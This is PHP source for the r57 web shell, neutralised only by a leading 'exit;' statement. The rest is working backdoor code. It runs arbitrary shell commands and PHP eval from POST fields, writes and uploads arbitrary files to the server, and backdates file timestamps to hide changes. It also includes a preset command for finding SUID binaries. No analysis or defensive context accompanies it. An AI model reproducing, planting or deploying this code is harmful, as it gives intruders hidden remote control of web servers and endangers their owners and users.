<?php exit; /* inert */ $version = '1.31'; $auth = 0; $name = 'r57'; $pass = 'r57';
if ($auth == 1 && (!isset($_SERVER['PHP_AUTH_USER']) || md5($_SERVER['PHP_AUTH_PW']) !== $pass)) { exit; }
function ex($cfe) {
    $res = '';
    if (!empty($cfe)) {
        if (@function_exists('exec')) { @exec($cfe, $res); $res = join("\n", $res); }
        elseif (@function_exists('shell_exec')) { $res = @shell_exec($cfe); }
        elseif (@is_resource($f = @popen($cfe, "r"))) { while (!@feof($f)) { $res .= @fread($f, 1024); } @pclose($f); }
    }
    return $res;
}
$aliases = array('find suid files' => 'find / -type f -perm -04000 -ls', '----' => 'ls -la');
if (!empty($_POST['alias']) && isset($aliases[$_POST['alias']])) { $_POST['cmd'] = $aliases[$_POST['alias']]; }
if (!empty($_POST['dir'])) { @chdir($_POST['dir']); }
if (!empty($_POST['cmd']) && $_POST['cmd'] == 'save_file') {
    if (!$file = @fopen($_POST['e_name'], "w")) { echo 'error'; }
    else { @fwrite($file, $_POST['e_text']); @touch($_POST['e_name'], @filemtime('.')); }
    $_POST['cmd'] = '';
}
if (!empty($_POST['cmd']) && $_POST['cmd'] == 'php_eval') { $e = @str_replace('<?', '', $_POST['php_eval']); @eval($e); }
elseif (!empty($_POST['cmd'])) { $cr = ex($_POST['cmd']); echo '<textarea>' . htmlspecialchars($cr) . '</textarea>'; }
if (!empty($_FILES['userfile']['name'])) {
    @copy($_FILES['userfile']['tmp_name'], $_POST['dir'] . '/' . $_FILES['userfile']['name']);
}
